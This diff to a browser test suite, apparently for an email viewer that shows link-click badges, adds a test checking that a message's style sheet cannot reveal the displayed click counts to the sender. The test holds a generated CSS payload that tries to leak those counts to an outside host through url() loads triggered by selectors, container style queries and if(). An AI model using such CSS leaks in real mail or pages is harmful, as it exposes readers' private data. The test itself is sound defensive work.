@@ -23,6 +23,7 @@ from tooling.servers import PROJECT
 
 pytestmark = pytest.mark.browser
 
+_LINKS = "".join(f'<a href="https://shop.example/{number}">Offer</a> ' for number in range(3))
 HOST = "http://dashboard.example/"
 HARNESS = f"""<!DOCTYPE html><title>Dashboard</title><div id=place></div>
 <script>{frontend("frame.js")}
@@ -183,6 +184,36 @@ def test_with_images_on_only_pictures_load_from_their_host(
     assert loaded.keys() == {"document", "image"}
     assert loaded["document"].startswith("file:")
     assert not [attempt for attempt in attempts if not attempt.startswith(f"request {CDN}")]
+
+
+SPYING = "".join(
+    f"{badge}::{part}{{background:url({CDN}/{part}/{number})}}"
+    f"@container style(--own:{number}px){{{badge}::{part}{{list-style:url({CDN}/{part}/own-{number})}}}}"
+    f"{badge}:has([title*='{number}']){{background:url({CDN}/has/{number})}}"
+    f"{badge}[style*='{number}']{{background:url({CDN}/style/{number})}}"
+    f"{badge}{{content:if(style(--own:{number}px):url({CDN}/if/{number}))}}"
+    for part in ("before", "after", "first-letter", "first-line", "marker", "selection")
+    for number in (0, 5, 18)
+    for badge in ("mailsight-badge", f"body>:nth-last-child({number})", "*")
+)
+
+
+def test_no_style_sheet_can_tell_the_sender_what_was_clicked(
+    page: Page, attempts: list[str], tmp_path: Path
+) -> None:
+    path = tmp_path / "mail.html"
+    html = f"<style>{SPYING}</style><img src={CDN}/picture width=90 height=90>{_LINKS}"
+    seen = []
+    for number in (0, 5):
+        attempts.clear()
+        clicks = [LinkClicks(link.link_position, link.url, "", number, number, 1) for link in links(html)]
+        path.write_text(draw(html, clicks, pictures=True), encoding="utf-8")
+        page.goto(path.as_uri())
+        drawn_twice(page)
+        assert page.locator("[data-badge]").all_text_contents() == [str(number)] * 3
+        seen.append(sorted(set(attempts)))
+    assert seen[0] == seen[1]
+    assert f"request {CDN}/picture" in seen[0]
 
 
 def test_the_frame_keeps_the_mode_of_the_mail(page: Page) -> None:
